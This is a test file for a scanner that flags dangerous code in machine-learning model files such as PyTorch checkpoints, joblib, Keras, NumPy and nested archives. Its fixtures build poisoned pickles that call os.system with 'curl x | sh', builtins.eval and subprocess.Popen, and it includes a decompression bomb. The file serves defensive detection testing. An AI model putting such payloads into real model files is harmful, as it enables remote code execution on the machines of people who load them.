import { strToU8, zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { scanModelArtifact } from "../../../src/supply-chain/model-files/scan.js";
import {
  DENSE,
  LAMBDA,
  OS_SYSTEM_P0,
  Pickle,
  gzip,
  hdf5,
  kerasArchive,
  legacyTorchFile,
  npyObjectArray,
  safetensors,
  stackGlobalCall,
  tar,
  torchStateDict,
  torchZip,
  zlib,
} from "./fixtures.js";

const summary = (name: string, bytes: Uint8Array) =>
  scanModelArtifact(name, bytes).files.map((f) => `${f.path} ${f.format} ${f.risk} ${f.severity ?? "-"}`);

describe("model artifact scanning", () => {
  it("flags a SageMaker model.tar.gz whose PyTorch checkpoint calls os.system, and passes its safetensors twin", () => {
    const evil = gzip(
      tar({
        "model.pth": torchZip(stackGlobalCall("os", "system", "curl x | sh")),
        "code/inference.py": strToU8("print(1)"),
      }),
    );
    const scan = scanModelArtifact("model.tar.gz", evil);
    expect(scan.severity).toBe("critical");
    expect(scan.files).toMatchObject([
      {
        path: "model.tar.gz!model.pth!archive/data.pkl",
        format: "pytorch-zip",
        risk: "dangerous-import",
        imports: [{ module: "os", name: "system", verdict: "dangerous" }],
      },
    ]);
    expect(scan.files[0]!.detail).toMatch(/os\.system/);
    const twin = scanModelArtifact(
      "model.tar.gz",
      gzip(tar({ "model.safetensors": safetensors(), "config.json": strToU8("{}") })),
    );
    expect(twin.severity).toBeUndefined();
    expect(twin.files.map((f) => `${f.path} ${f.risk}`)).toContain(
      "model.tar.gz!model.safetensors safe-format",
    );
  });

  it("rates a PyTorch state dict medium (plain pickle) and names the allow-listed imports", () => {
    expect(summary("model.pt", torchZip(torchStateDict()))).toEqual([
      "model.pt!archive/data.pkl pytorch-zip plain-pickle medium",
    ]);
  });

  it("reads TorchScript's constants.pkl too", () => {
    const scan = scanModelArtifact(
      "scripted.pt",
      torchZip(torchStateDict(), {
        "archive/constants.pkl": OS_SYSTEM_P0,
        "archive/code/__torch__.py": strToU8(""),
      }),
    );
    expect(scan.files.find((f) => f.path.endsWith("constants.pkl"))).toMatchObject({
      risk: "dangerous-import",
      severity: "critical",
    });
  });

  it("reads the legacy torch.save layout (several pickles, then storage bytes)", () => {
    expect(scanModelArtifact("old.bin", legacyTorchFile(stackGlobalCall("builtins", "eval"))).severity).toBe(
      "critical",
    );
    expect(summary("old.bin", legacyTorchFile(torchStateDict()))).toEqual([
      "old.bin pickle plain-pickle medium",
    ]);
  });

  it("treats an import outside the allow-list as critical, naming it as such", () => {
    const scan = scanModelArtifact("model.pkl", stackGlobalCall("mypackage.payloads", "Run"));
    expect(scan.files[0]).toMatchObject({ risk: "import-outside-allow-list", severity: "critical" });
    expect(scan.files[0]!.detail).toMatch(/outside the safe allow-list: mypackage\.payloads\.Run/);
  });

  it("reads joblib files, plain and zlib-compressed", () => {
    const estimator = new Pickle()
      .proto(4)
      .shortBinUnicode("sklearn.linear_model._base")
      .shortBinUnicode("LinearRegression")
      .stackGlobal()
      .emptyTuple()
      .newObj()
      .emptyDict()
      .build()
      .stop()
      .bytes();
    expect(summary("model.joblib", estimator)).toEqual(["model.joblib pickle plain-pickle medium"]);
    expect(summary("model.joblib", zlib(OS_SYSTEM_P0))).toEqual([
      "model.joblib pickle dangerous-import critical",
    ]);
    expect(summary("model.joblib", Uint8Array.from([0x42, 0x5a, 0x68, 0x39]))).toEqual([
      "model.joblib pickle unreadable -",
    ]);
  });

  it("flags Keras Lambda layers (.keras and .h5) and objects from modules outside Keras", () => {
    expect(summary("clean.keras", kerasArchive([DENSE]))).toEqual([
      "clean.keras!config.json keras safe-format -",
    ]);
    const lambda = scanModelArtifact("lambda.keras", kerasArchive([DENSE, LAMBDA]));
    expect(lambda.files[0]).toMatchObject({ risk: "keras-code", severity: "high" });
    expect(lambda.files[0]!.detail).toMatch(/Lambda layer\(s\) sneaky/);
    const popen = kerasArchive([{ module: "subprocess", class_name: "Popen", config: {} }]);
    expect(scanModelArtifact("popen.keras", popen).files[0]).toMatchObject({
      risk: "dangerous-import",
      severity: "critical",
    });
    expect(
      summary(
        "model.h5",
        hdf5(
          JSON.stringify({ class_name: "Sequential", config: { layers: [LAMBDA] } }).replace(/":/g, '": '),
        ),
      ),
    ).toEqual(["model.h5 keras-h5 keras-code high"]);
    expect(
      summary("model.h5", hdf5(JSON.stringify({ class_name: "Sequential", config: { layers: [DENSE] } }))),
    ).toEqual(["model.h5 keras-h5 safe-format -"]);
  });

  it("passes safetensors, GGUF and ONNX as formats without code", () => {
    expect(summary("model.safetensors", safetensors())).toEqual([
      "model.safetensors safetensors safe-format -",
    ]);
    expect(summary("model.gguf", strToU8("GGUF\u0003\u0000\u0000\u0000"))).toEqual([
      "model.gguf gguf safe-format -",
    ]);
    expect(summary("model.onnx", Uint8Array.from([0x08, 0x07, 0x12, 0x04]))).toEqual([
      "model.onnx onnx safe-format -",
    ]);
  });

  it("reads the pickle inside a NumPy object array", () => {
    expect(summary("arr.npy", npyObjectArray(OS_SYSTEM_P0))).toEqual([
      "arr.npy numpy dangerous-import critical",
    ]);
  });

  it("opens nested archives, up to the depth cap", () => {
    const inner = zipSync({ "weights/model.pkl": OS_SYSTEM_P0 });
    expect(summary("bundle.zip", zipSync({ "inner.zip": inner }))).toEqual([
      "bundle.zip!inner.zip!weights/model.pkl pickle dangerous-import critical",
    ]);
    let nested: Uint8Array = OS_SYSTEM_P0;
    for (let i = 0; i < 8; i += 1) nested = gzip(nested);
    const deep = scanModelArtifact("x.pkl.gz", nested, { maxDepth: 3 });
    expect(deep.files[0]).toMatchObject({ risk: "unreadable", detail: "nested deeper than 3 archives" });
    expect(deep.unreadable).toBe(1);
  });

  it("stops expanding at the byte cap (a decompression bomb is unreadable, not scanned)", () => {
    const bomb = gzip(new Uint8Array(10 * 1024 * 1024));
    const scan = scanModelArtifact("model.pkl.gz", bomb, { maxExpandedBytes: 1024 * 1024 });
    expect(scan.files[0]).toMatchObject({
      risk: "unreadable",
      detail: expect.stringMatching(/expands past/),
    });
  });

  it("leaves a pickle it could not read to the end unjudged when nothing bad came before the cut", () => {
    const cut = torchStateDict().subarray(0, 40);
    expect(summary("model.pkl", cut)).toEqual(["model.pkl pickle unreadable -"]);
  });

  it("reads a PyTorch archive cut short (no central directory) from its local headers", () => {
    const whole = torchZip(stackGlobalCall("os", "system"));
    const cut = whole.subarray(0, whole.length - 60);
    const scan = scanModelArtifact("model.pt", cut);
    expect(scan.files[0]).toMatchObject({ path: "model.pt!archive/data.pkl", risk: "dangerous-import" });
    expect(scan.notes.join("\n")).toMatch(/model\.pt: read from its first bytes only/);
  });
});
